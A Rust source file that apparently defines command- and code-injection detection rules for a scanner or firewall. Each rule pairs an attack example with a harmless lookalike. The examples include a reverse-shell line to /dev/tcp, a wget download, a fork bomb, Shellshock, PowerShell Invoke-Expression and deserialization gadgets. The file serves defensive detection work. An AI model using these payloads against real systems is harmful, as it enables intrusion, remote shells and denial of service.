//! The rules of COMMAND_INJECTION.

use crate::{Category, Level, Rule, Severity};

/// From this number on, rules are about code of a language; below, about a shell's grammar and words.
pub(crate) const CODE_FROM: u32 = 4020;

macro_rules! rules {
    ($($constant:ident: $id:literal, $name:literal, $level:ident, $severity:ident, $reference:literal,
        $description:literal, $example:literal, $lookalike:literal;)*) => {
        $(
            #[doc = $description]
            pub const $constant: Rule = Rule {
                id: $id,
                name: $name,
                category: Category::CommandInjection,
                severity: Severity::$severity,
                level: Level::$level,
                description: $description,
                example: $example,
                lookalike: $lookalike,
                reference: $reference,
            };
        )*
        /// Every rule of this category.
        pub static RULES: &[Rule] = &[$($constant),*];
    };
}

rules! {
    SEMICOLON: 4001, "cmd-semicolon", One, Critical, "CWE-78, CAPEC-88, CRS 932230",
        "A semicolon followed by a command that runs.", "10.0.0.1;whoami", "fish; cat and dog";
    PIPE: 4002, "cmd-pipe", One, Critical, "CWE-78, CAPEC-88, CRS 932230",
        "A pipe followed by a command that runs.", "x || ping -c 3 10.0.0.1", "rock | roll";
    BACKTICK: 4003, "cmd-backtick", One, Critical, "CWE-78, CAPEC-88, CRS 932130",
        "A command in backticks.", "`uname -a`", "use `find` or `sort` here";
    DOLLAR_PAREN: 4004, "cmd-dollar-paren", One, Critical, "CWE-78, CAPEC-88, CRS 932130",
        "A command in a shell substitution: $( ), <( ) or >( ).", "$(sleep 5)", "$(document).ready";
    AMPERSAND: 4005, "cmd-ampersand", One, Critical, "CWE-78, CAPEC-88, CRS 932230",
        "One or two ampersands followed by a command that runs.", "x && cat /etc/hosts", "Q&A & more";
    COMMON: 4006, "cmd-common", One, Critical, "CWE-78, CRS 932160, CRS 932250",
        "A value that is a command line of its own.", "cat /etc/issue", "cat food";
    NEWLINE: 4007, "cmd-newline", One, Critical, "CWE-78, CAPEC-88, CRS 932231",
        "A line break followed by a command that runs.", "x\nwget http://h/a -O b", "first line\nsecond line";
    DISGUISED: 4008, "cmd-disguised", One, Critical, "CWE-78, CRS 932200, CRS 932240",
        "A command or a file whose name is broken up by quotes, backslashes, wildcards or empty variables.",
        "c'a't /etc/issue", "rock 'n' roll";
    REVERSE_SHELL: 4009, "cmd-reverse-shell", One, Critical, "CWE-78, CAPEC-88",
        "Bash's network files, which reverse shells are made of.", "bash -i >& /dev/tcp/h/1", "/dev/null";
    SHELLSHOCK: 4010, "cmd-shellshock", One, Critical, "CVE-2014-6271, CRS 932170",
        "A function definition in front of a command, as CVE-2014-6271 runs it.", "() { :;}; id", "fn() { x }";
    WINDOWS: 4011, "cmd-windows", One, Critical, "CWE-78, CRS 932140, CRS 932370",
        "A loop, a conditional or a variable of cmd.exe.", "FOR %x IN (a b) DO echo %x", "50% of all";
    POWERSHELL: 4012, "cmd-powershell", One, Critical, "CWE-78, CRS 932120, CRS 932125",
        "A PowerShell cmdlet with its arguments, or .NET calls that download and run.",
        "Invoke-Expression $x", "iex files";
    SSI: 4013, "cmd-server-side-include", One, Critical, "CWE-97, CAPEC-101",
        "A server-side or edge-side include that runs or includes.", "<!--#exec cmd=\"id\"-->", "<!-- #1 -->";
    FORK_BOMB: 4014, "cmd-fork-bomb", One, Critical, "CWE-400, CRS 932390",
        "A shell function that calls itself twice.", ":(){ :|:& };:", "f() { g }";
    PARAMETER: 4015, "cmd-parameter", One, Critical, "CWE-78, CRS 932350",
        "A bare command as the value of a parameter that is named for commands.", "whoami", "status";
    IN_TEXT: 4016, "cmd-in-text", Two, Critical, "CWE-78",
        "A command or code inside a text: an article quotes one, an attack hides one.",
        "Run the `uname -a` command first", "Run the `installer` first";
    VARIABLE: 4017, "cmd-variable", Two, Error, "CWE-78, CRS 932130",
        "A shell variable or an arithmetic expansion.", "${PATH}", "$100";
    NAMED: 4018, "cmd-name", Two, Warning, "CWE-78, CRS 932260",
        "A value that starts with a name that is nothing but a command.", "whoami", "who am I";
    ARGUMENT: 4019, "cmd-argument", One, Critical, "CWE-88, CAPEC-6, CVE-2017-1000117",
        "An option that makes an honest tool run a command.", "--upload-pack=touch a", "--upload-path=a";
    PHP_TAG: 4020, "code-php-tag", One, Critical, "CWE-94, CRS 933100",
        "PHP's opening tag.", "<?php echo 1;", "<?xml version='1.0'?>";
    CALL: 4021, "code-call", One, Critical, "CWE-94, CRS 933150, CRS 933160",
        "A call that runs code, a command or a file.", "system('id')", "print('hello')";
    PHP_OBJECT: 4022, "code-php-object", One, Critical, "CWE-502, CRS 933170",
        "A serialised PHP object.", "O:4:\"User\":1:{s:1:\"a\";}", "O:4 minutes";
    PHP: 4023, "code-php", One, Critical, "CWE-94, CRS 933120, CVE-2024-4577, CVE-2018-20062",
        "PHP's request arrays, directives or a framework's entry points for code.",
        "$_GET[x]", "$_total";
    UPLOAD: 4024, "code-upload", One, Critical, "CWE-434, CRS 933110, CRS 944140",
        "An uploaded file whose name makes a server run it.", "photo.php", "photo.jpg";
    PYTHON: 4030, "code-python", One, Critical, "CWE-94, CWE-1336",
        "Python attributes and modules that lead out of an expression.", "''.__class__.__mro__", "__name__";
    NODE: 4031, "code-node", One, Critical, "CWE-94, CRS 934100",
        "Node.js modules that run processes.", "process.mainModule.require('x')", "process.env";
    PROTOTYPE: 4032, "code-prototype", One, Critical, "CWE-1321, CRS 934130",
        "An object's prototype reached by name.", "__proto__", "prototype";
    OBJECT: 4033, "code-object", One, Critical, "CWE-502",
        "A tag of YAML, a pickle of Python or a gadget of .NET that builds an object.", "!ruby/object:Gem::Installer", "!important";
    JAVA: 4040, "code-java", One, Critical, "CWE-94, CWE-917, CRS 944100",
        "Java classes that run processes, load code or evaluate expressions.",
        "@java.lang.Runtime@getRuntime()", "java.lang.RuntimeException: x";
    JAVA_SERIALIZED: 4041, "code-java-serialized", One, Critical, "CWE-502, CRS 944200, CRS 944210",
        "A serialised Java object.", "rO0ABXNyABFq", "rO0A";
    FASTJSON: 4042, "code-fastjson", One, Critical, "CWE-502, CVE-2017-18349",
        "A Java class named as the type of a JSON object.",
        "{\"@type\":\"com.example.Gadget\"}", "{\"@type\":\"Person\"}";
    CLASS_LOADER: 4043, "code-class-loader", One, Critical, "CVE-2022-22965, CRS 944260",
        "A property path that reaches the class loader.", "class.module.classLoader.resources", "class.name";
    TEMPLATE_ARITHMETIC: 4050, "template-arithmetic", One, Critical, "CWE-1336, CRS 934190",
        "A template expression that computes, as probes do.", "{{7*7}}", "{{price}}";
    TEMPLATE_OBJECT: 4051, "template-object", One, Critical, "CWE-1336, CWE-917",
        "A template expression that reaches the engine's own objects.", "{{config}}", "{{ .Values.image }}";
    TEMPLATE_DIRECTIVE: 4052, "template-directive", One, Critical, "CWE-1336",
        "A directive of a template or page language that runs code.", "<#assign x=1>", "<%=title%>";
    JOINED: 4060, "cmd-joined", Two, Critical, "CWE-78, CRS 932230",
        "A separator directly in front of the last word, which is a command's name.", "x;date", "x;dates";
    JAVA_CLASS: 4061, "code-java-class", Two, Critical, "CWE-470, CRS 944130",
        "A value that is nothing but the name of a class of Java's own.", "java.io.FileReader", "com.example.shop";
}
